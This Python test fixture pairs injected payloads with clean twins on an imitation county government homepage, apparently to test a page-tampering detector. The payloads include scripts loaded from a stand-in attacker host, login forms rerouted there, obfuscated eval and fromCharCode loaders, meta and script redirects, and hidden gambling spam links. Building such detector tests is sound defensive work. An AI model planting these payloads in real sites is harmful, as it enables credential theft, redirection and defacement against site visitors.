"""Ways by which something put into a page can load, run, lead away, hide or rename it, one by one after the standards
and after public lists of such code; each with its clean twin. The writer had read the judge: most are the hard ways.
"""

import base64
from collections.abc import Iterator

from tests.pages.imitations.attacks import BAD, GOOD, Attack, home

_HOST = BAD.removeprefix("http://")
_SOLD = f"<a href='{BAD}/g1'>石英管</a><a href='{BAD}/g2'>仓储笼</a><a href='{BAD}/g3'>月嫂培训</a>"
_KNOWN = f"<a href='{GOOD}/'>云山旅游</a><a href='http://www.mee.gov.cn/'>生态环境部</a>"
_NAV = "<a href='/1/'>政务公开</a>"


def _codes(text: str) -> str:
    return ",".join(str(ord(char)) for char in text)


def _put(name: str, page: str, twin: str, *, plain: bool = True) -> Attack:
    return Attack(name, home(page), home(twin), plain)


def _head(name: str, head: str, twin: str, *, plain: bool = True) -> Attack:
    return Attack(name, home(head=head), home(head=twin), plain)


def _run(name: str, script: str, twin: str, *, plain: bool = True) -> Attack:
    return _put(name, f"<script>{script}</script>", f"<script>{twin}</script>", plain=plain)


def _loading() -> Iterator[Attack]:
    """What fetches a program or a look from elsewhere; honest pages do the same, so only the baseline tells."""
    yield _put(
        "script of a drawing",
        f"<svg><script href='{BAD}/v.js'></script></svg>",
        "<svg><script href='/js/v.js'></script></svg>",
        plain=False,
    )
    yield _head(
        "sheet of another host",
        f"<link rel='stylesheet' href='{BAD}/z.css'>",
        "<link rel='stylesheet' href='/images/base.css?v=20261123'>",
        plain=False,
    )
    yield _head(
        "module fetched ahead",
        f"<link rel='modulepreload' href='{BAD}/m.js'>",
        "<link rel='modulepreload' href='/js/m.js'>",
        plain=False,
    )
    yield _head(
        "map of imports",
        f'<script type=\'importmap\'>{{"imports":{{"swiper":"{BAD}/s.js"}}}}</script>',
        '<script type=\'importmap\'>{"imports":{"swiper":"/js/s.js"}}</script>',
        plain=False,
    )
    yield _head(
        "rendered ahead",
        f'<script type=\'speculationrules\'>{{"prerender":[{{"urls":["{BAD}/p"]}}]}}</script>',
        '<script type=\'speculationrules\'>{"prerender":[{"urls":["/xwzx/"]}]}</script>',
        plain=False,
    )
    yield _head(
        "manifest of another host",
        f"<link rel='manifest' href='{BAD}/app.webmanifest'>",
        "<link rel='manifest' href='/app.webmanifest'>",
        plain=False,
    )
    yield _head(
        "icon of another host",
        f"<link rel='shortcut icon' href='{BAD}/f.ico'>",
        "<link rel='shortcut icon' href='/f.ico'>",
        plain=False,
    )
    yield _put(
        "control with a code base",
        f"<object classid='clsid:D27CDB6E' codebase='{BAD}/x.cab#1,0' width='300' height='90'></object>",
        "<object data='/banner.svg' type='image/svg+xml' width='300' height='90'></object>",
        plain=False,
    )
    yield _put(
        "film in a parameter",
        f"<object width='300' height='90'><param name='movie' value='{BAD}/b.swf'></object>",
        "<object width='300' height='90'><param name='movie' value='/b.swf'></object>",
        plain=False,
    )
    yield _put(
        "applet",
        f"<applet code='L.class' archive='{BAD}/l.jar' width='1' height='1'></applet>",
        "<object data='/tu.svg' width='100' height='60'></object>",
        plain=False,
    )
    yield _head(
        "code in a picture of the style",
        f'<style>body{{background-image:url(\'javascript:document.write("<script src={BAD}/c.js></scr"+"i'
        "pt>\")')}</style>",
        "<style>body{background-image:url('/images/spring.jpg')}</style>",
    )
    yield _head(
        "behaviour of another host",
        f"<style>.nav{{behavior:url({BAD}/n.htc)}}</style>",
        "<style>.nav{background:url(/images/n.png)}</style>",
        plain=False,
    )
    yield _head(
        "import without a scheme",
        f"<style>@import url(//{_HOST}/i.css);</style>",
        "<style>@import url(/css/i.css);</style>",
        plain=False,
    )
    yield _put(
        "store of scripts for everybody",
        "<script src='https://cdn.jsdelivr.net/gh/u8831/t@latest/a.js'></script>",
        "<script src='/js/jquery.min.js?v=3.7'></script>",
        plain=False,
    )
    yield _put(
        "another port", f"<script async src='//{_HOST}:8443/a.js'></script>", "<script async src='/js/zt.js'></script>",
        plain=False,
    )  # fmt: skip
    yield _put(
        "entry of a loader",
        f"<script data-main='{BAD}/main' src='/js/require.js'></script>",
        "<script data-main='/js/main' src='/js/require.js'></script>",
        plain=False,
    )
    yield _put(
        "frame in a frame",
        f"<iframe srcdoc=\"<iframe src='{BAD}/i'></iframe>\"></iframe>",
        "<iframe srcdoc='<p>今日天气晴</p>'></iframe>",
        plain=False,
    )
    yield _put(
        "for browsers of old",
        f"<!--[if lt IE 9]><script src='{BAD}/h5.js'></script><![endif]-->",
        "<!--[if lt IE 9]><script src='/js/html5shiv.js'></script><![endif]-->",
        plain=False,
    )
    yield _put(
        "program for telephones",
        f"<a href='{BAD}/yst.apk' download>云山通客户端下载</a>",
        "<a href='/upload/yst.apk' download>云山通客户端下载</a>",
        plain=False,
    )


def _submitting() -> Iterator[Attack]:
    yield _put(
        "button with another way",
        f"<form action='/login'><input name='p' type='password'><button formaction='{BAD}/p'>登录</button></form>",
        "<form action='/login'><input name='p' type='password'><button formaction='/login2'>登录</button></form>",
    )
    yield _put(
        "fields outside of their form",
        f"<form id='fx' action='{BAD}/p'></form><input form='fx' name='sfz'><button form='fx'>查询</button>",
        "<form id='fx' action='/cx'></form><input form='fx' name='mc'><button form='fx'>查询</button>",
        plain=False,
    )
    yield _put(
        "form that sends itself",
        f"<form id='zf' action='{BAD}/' target='_top'></form><script>document.getElementById('zf').submit()</script>",
        "<form id='zf' action='/ss'></form><script>document.getElementById('zf').reset()</script>",
    )
    yield _put(
        "link that presses itself",
        f"<a id='zl' href='{BAD}/'></a><script>document.getElementById('zl').click()</script>",
        "<a id='zl' href='/dt/'>动态</a><script>document.getElementById('zl').focus()</script>",
    )
    yield _put(
        "picture with an area",
        f"<img src='/b.jpg' usemap='#mb'><map name='mb'><area coords='0,0,999,300' href='{BAD}/'></map>",
        "<img src='/b.jpg' usemap='#mb'><map name='mb'><area coords='0,0,999,300' href='/zt/'></map>",
        plain=False,
    )
    yield Attack(
        "navigation that leads elsewhere",
        home().replace(_NAV, f"<a href='{BAD}/'>政务公开</a>"),
        home().replace(_NAV, "<a href='/zwgk/'>政务公开</a>"),
        plain=False,
    )
    yield _put(
        "press on a known link",
        f"<a href='/zwgk/' onclick=\"window.open('{BAD}/k')\">政务公开</a>",
        "<a href='/zwgk/' onclick=\"window.open('/zwgk/')\">政务公开</a>",
        plain=False,
    )


def _refreshing() -> Iterator[Attack]:
    yield _head("refresh without a name", f"<meta http-equiv='refresh' content='0;{BAD}/'>",
                "<meta http-equiv='refresh' content='900'>")  # fmt: skip
    yield _head(
        "second refresh",
        f"<meta http-equiv='refresh' content='600'><meta http-equiv='refresh' content='1;url={BAD}'>",
        "<meta http-equiv='refresh' content='600'>",
    )
    yield _head(
        "refresh in figures",
        f"<meta http-equiv='refresh' content='0;URL=&#104;&#116;tp://{_HOST}/'>",
        "<meta http-equiv='refresh' content='0;URL=&#47;index.html'>",
    )
    yield _put(
        "refresh for those without scripts",
        f"<noscript><meta http-equiv='refresh' content='0;url={BAD}/ns'></noscript>",
        "<noscript><p>请开启脚本后浏览</p></noscript>",
    )
    yield _run(
        "refresh that is written",
        f'document.write(\'<meta http-equiv="refresh" content="0;url={BAD}/">\')',
        'document.write(\'<meta name="author" content="云山县">\')',
    )
    yield _put(
        "page in an address leads on",
        f"<iframe width='0' height='0' src=\"data:text/html,<meta http-equiv='refresh' content='0;url="
        f"{BAD}'>\"></iframe>",
        "<iframe width='300' height='90' src='/gg/index.html'></iframe>",
    )


def _leading() -> Iterator[Attack]:
    yield _run("host set", f"location.hostname='{_HOST}'", "if(location.hostname=='m.yunshan.example'){wap()}")
    yield _run("slashes escaped", f'document.location="http:\\/\\/{_HOST}\\/e"', 'document.location.hash="top"')
    yield _run("the old navigator", f"window.navigate('{BAD}/o')", "function back(){window.navigate('/index.html')}")
    yield _run(
        "mouse that moves",
        f"document.onmousemove=function(){{document.onmousemove=null;location='{BAD}/mm'}}",
        "document.onmousemove=function(){drag.move()}",
    )
    yield _run(
        "whoever leaves",
        f"window.onbeforeunload=function(){{location.href='{BAD}/bye'}}",
        "window.onbeforeunload=function(){return '表单尚未提交'}",
    )
    yield _run(
        "back to elsewhere",
        f"history.pushState(1,'','#b');addEventListener('hashchange',function(){{location.replace('{BAD}/hc')}})",
        "addEventListener('hashchange',function(){tab(location.hash)})",
    )
    yield _run(
        "purse of a telephone",
        "location.href='alipays://platformapi/startapp?saId=10000007&qrcode=c1x'",
        "function call(){location.href='tel:023-55501234'}",
    )
    yield _run("window that is filled later", f"var w=window.open();w.location='{BAD}/w'", "var w=300;w+=20")
    yield _run(
        "one of several",
        f"var u=['{BAD}/1','{BAD}/2'];top.location=u[Math.floor(Math.random()*2)]",
        "var u=['/a.jpg','/b.jpg'];img.src=u[Math.floor(Math.random()*2)]",
    )
    yield _run(
        "narrow screens",
        f"window.matchMedia('(max-width:768px)').matches&&location.assign('{BAD}/n')",
        "window.matchMedia('(max-width:768px)').matches&&location.assign('/m/')",
    )
    yield _run(
        "labels joined", "location.href='//'+['www','jt7788','example','vip'].join('.')", "var v=[1,0,3].join('.')"
    )
    yield _run("address made", f"location=new URL('/x','{BAD}')", "var p=new URL('/x',location.href).pathname")
    yield _run("set by reflection", f"Reflect.set(window,'location','{BAD}/r')", "Reflect.set(conf,'speed',300)",
               plain=False)  # fmt: skip
    yield _run("assigned", f"Object.assign(location,{{href:'{BAD}/a'}})", "Object.assign(conf,{auto:true})",
               plain=False)  # fmt: skip
    yield _run("name joined", f"self[['lo','cation'].join('')]='{BAD}/j'", "self[['_t','mp'].join('')]=1")
    yield _run("timer of two halves", f'setTimeout("loc"+"ation.href=\'{BAD}/th\'",9)', 'setTimeout("ro"+"ll()",900)')
    yield _put(
        "whoever points",
        f"<div onpointermove=\"location='{BAD}/pm'\"><p>云山县欢迎您</p></div>",
        '<div onpointermove="hint(this)"><p>云山县欢迎您</p></div>',
    )
    yield _put(
        "line that starts",
        f"<marquee onstart=\"location.href='{BAD}/ms'\">欢迎访问</marquee>",
        "<marquee onmouseover='this.stop()' onmouseout='this.start()'>欢迎访问</marquee>",
    )
    yield _put(
        "film that can play",
        f"<video muted autoplay src='/v.mp4' oncanplay=\"top.location='{BAD}/cp'\"></video>",
        "<video muted autoplay src='/v.mp4' oncanplay='fit(this)'></video>",
    )


def _running() -> Iterator[Attack]:
    shifted = "".join(chr(ord(char) + 1) for char in f"location='{BAD}'").replace('"', "")
    hexed = f"location='{BAD}'".encode().hex()
    coded = base64.b64encode(f"open(`{BAD}`)".encode()).decode()
    yield _run(
        "one letter further",
        f'var a="{shifted}",s="";for(var i=0;i<a.length;i++)s+=String.fromCharCode(a.charCodeAt(i)-1);new'
        " Function(s)()",
        'var a="abc",s=0;for(var i=0;i<a.length;i++)s+=a.charCodeAt(i);check(s)',
        plain=False,
    )
    yield _run(
        "pairs of figures",
        f"var h='{hexed}',o='';for(var i=0;i<h.length;i+=2)o+=String.fromCharCode(parseInt(h.substr(i,2),"
        "16));(0,eval)(o)",
        "var h='1a2b',o=0;for(var i=0;i<h.length;i+=2)o+=parseInt(h.substr(i,2),16);show(o)",
        plain=False,
    )
    yield _run(
        "element by figures",
        f"var e=document.createElement(String.fromCharCode({_codes('script')}));"
        f"e.src=String.fromCharCode({_codes(BAD)});"
        "document.head.appendChild(e)",
        "var e=document.createElement('div');e.className='tip';document.body.appendChild(e)",
        plain=False,
    )
    yield _run(
        "asked for as a script",
        f"$.ajax({{url:'{BAD}/j',dataType:'script'}})",
        "$.ajax({url:'/tq.json',dataType:'json',success:tq})",
        plain=False,
    )
    yield _run(
        "text of the own site that is run",
        "fetch('/upload/2026/a.txt').then(r=>r.text()).then(t=>{Function(t)()})",
        "fetch('/upload/2026/a.txt').then(r=>r.text()).then(t=>{tip.textContent=t})",
        plain=False,
    )
    yield _run(
        "module in an address",
        f"import('data:text/javascript,location=%22{BAD}%22')",
        "import('/js/lazy.js')",
        plain=False,
    )
    yield _run(
        "source as an attribute",
        f"var s=document.createElement('script');s.setAttribute('src','{BAD}/at.js');document.body.appendChild(s)",
        "var s=document.createElement('script');s.setAttribute('src','/js/at.js');document.body.appendChild(s)",
        plain=False,
    )
    yield _run(
        "sheet put in",
        f"document.head.insertAdjacentHTML('beforeend','<link rel=stylesheet href={BAD}/p.css>')",
        "document.head.insertAdjacentHTML('beforeend','<link rel=stylesheet href=/css/p.css>')",
        plain=False,
    )
    yield _run(
        "worker out of a text",
        f"new Worker(URL.createObjectURL(new Blob(['importScripts(\"{BAD}/w.js\")'])))",
        "new Worker('/js/search-worker.js')",
        plain=False,
    )
    yield _run(
        "worker that stays",
        "navigator.serviceWorker.register('/upload/sw.js')",
        "if('geolocation' in navigator){weather()}",
        plain=False,
    )
    yield _put(
        "encoded language",
        "<script language='JScript.Encode'>#@~^HAAAAA==@#@&NKm;:xDcADbYn`EtE*i@#@&cAkAAA==^#~@</script>",
        "<script language='javascript'>var ie=document.all?1:0;</script>",
        plain=False,
    )
    yield _put(
        "type of the last century",
        f"<script type='text/javascript1.5'>location='{BAD}/15'</script>",
        "<script type='text/javascript1.5'>var menu=new Array()</script>",
    )
    yield _put(
        "code in the handler of a press",
        f"<a href='/bszn/' onmousedown=\"eval(atob('{coded}'))\">办事</a>",
        "<a href='/bszn/' onmousedown=\"this.className='on'\">办事</a>",
        plain=False,
    )


def _looks() -> Iterator[Attack]:
    yield _put(
        "class that hides elsewhere",
        f"<div class='layui-hide'>{_SOLD}</div>",
        f"<div class='layui-row'>{_KNOWN}</div>",
        plain=False,
    )
    yield _put(
        "picture over everything",
        f"<div style='position:fixed;inset:0;z-index:99999;background:#000'><img src='{BAD}/h.jpg'></div>",
        "<div style='position:fixed;right:10px;bottom:90px;z-index:999'><img src='/ewm.jpg'></div>",
        plain=False,
    )
    yield _head(
        "words in a style",
        "<style>body>*{display:none}body:before{content:'本站已被黑客控制'}</style>",
        "<style>html{-webkit-filter:grayscale(100%);filter:grayscale(100%)}</style>",
        plain=False,
    )
    yield _put(
        "links of a drawing",
        f"<svg width='0' height='0'><a href='{BAD}/s1'><text>石英管</text></a></svg>",
        "<svg width='90' height='30'><a href='/sj/'><text>数据</text></a></svg>",
        plain=False,
    )
    yield _put(
        "fades at once",
        f"<style>@keyframes gone{{to{{opacity:0}}}}.gg{{animation:gone 0s forwards}}</style><div class='g"
        f"g'>{_SOLD}</div>",
        f"<style>@keyframes come{{to{{opacity:1}}}}.gg{{animation:come 1s forwards}}</style><div class='g"
        f"g'>{_KNOWN}</div>",
        plain=False,
    )


def _names() -> Iterator[Attack]:
    yield _head("address for friends", f"<meta property='og:url' content='{BAD}/'>",
                "<meta property='og:url' content='http://www.yunshan.example/'>")  # fmt: skip
    yield _head(
        "other languages elsewhere",
        f"<link rel='alternate' hreflang='x-default' href='{BAD}/'>",
        "<link rel='alternate' hreflang='en' href='http://www.yunshan.example/en/'>",
        plain=False,
    )
    yield _head(
        "data for searchers",
        f'<script type=\'application/ld+json\'>{{"@type":"WebSite","name":"澳门新葡京娱乐","url":"{BAD}/"}}</script>',
        '<script type=\'application/ld+json\'>{"@type":"WebSite","name":"云山县人民政府","url":"http://www.yuns'
        'han.example/"}</script>',
    )
    yield Attack(
        "another name altogether",
        home().replace("<title>首页_云山县人民政府</title>", "<title>星河综合·XINGHE</title>"),
        home().replace("<title>首页_云山县人民政府</title>", "<title>云山县人民政府门户网站</title>"),
        plain=False,
    )
    yield _run(
        "title for everybody",
        'document.title="\\u6fb3\\u95e8\\u6c38\\u5229\\u5a31\\u4e50\\u573a"',
        'document.title="\\u4e91\\u5c71\\u53bf\\u4eba\\u6c11\\u653f\\u5e9c"',
    )
    yield _head(
        "keywords of an entry",
        "<meta name='keywords' content='九州综合体育登录入口,九州体育app下载'>",
        "<meta name='keywords' content='云山县,全民健身,体育场馆预约入口'>",
    )


WAYS_IN = (
    *_loading(), *_submitting(), *_refreshing(), *_leading(), *_running(), *_looks(), *_names(),
)  # fmt: skip
